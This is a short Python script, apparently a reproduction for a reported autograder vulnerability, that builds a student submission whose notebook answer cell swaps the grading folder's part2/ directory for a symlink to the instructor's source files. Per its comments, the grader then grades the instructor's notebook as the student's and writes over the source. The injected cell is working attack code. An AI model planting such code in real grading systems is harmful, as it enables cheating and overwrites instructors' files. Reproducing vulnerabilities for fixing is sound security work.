# eve submits the released ps2 unanswered, except intro.ipynb's answer cell, which swaps the
# part2/ folder of its working dir for a link to the instructor's source/ps2/part2.
import json
import os
import shutil
import sys

course = sys.argv[1]
released = os.path.join(course, "release", "ps2")
submitted = os.path.join(course, "submitted", "eve", "ps2")
shutil.copytree(released, submitted)
with open(os.path.join(submitted, "timestamp.txt"), "w") as f:
    f.write("2026-11-19 18:02:11.000000 UTC\n")
ATTACK = """# Attack (issue 14 item 3): part2/ of the grading dir becomes a link to source/ps2/part2: the
# grader then grades the instructor's b.ipynb as mine, hands it to the sandbox user and writes
# the graded notebook through the link over the source.
import os, shutil
here = os.getcwd()
if "/autograded/" in here:
    course = here.split("/autograded/")[0]
    try:
        shutil.rmtree("part2")
        os.symlink(course + "/source/ps2/part2", "part2")
        print("linked part2")
    except OSError as e:
        print("link:", e)

def answer():
    return 1
"""
path = os.path.join(submitted, "intro.ipynb")
with open(path) as f:
    nb = json.load(f)
for cell in nb["cells"]:
    if cell["metadata"].get("nbgrader", {}).get("grade_id") == "answer":
        cell["source"] = ATTACK.splitlines(keepends=True)
with open(path, "w") as f:
    json.dump(nb, f, indent=1)
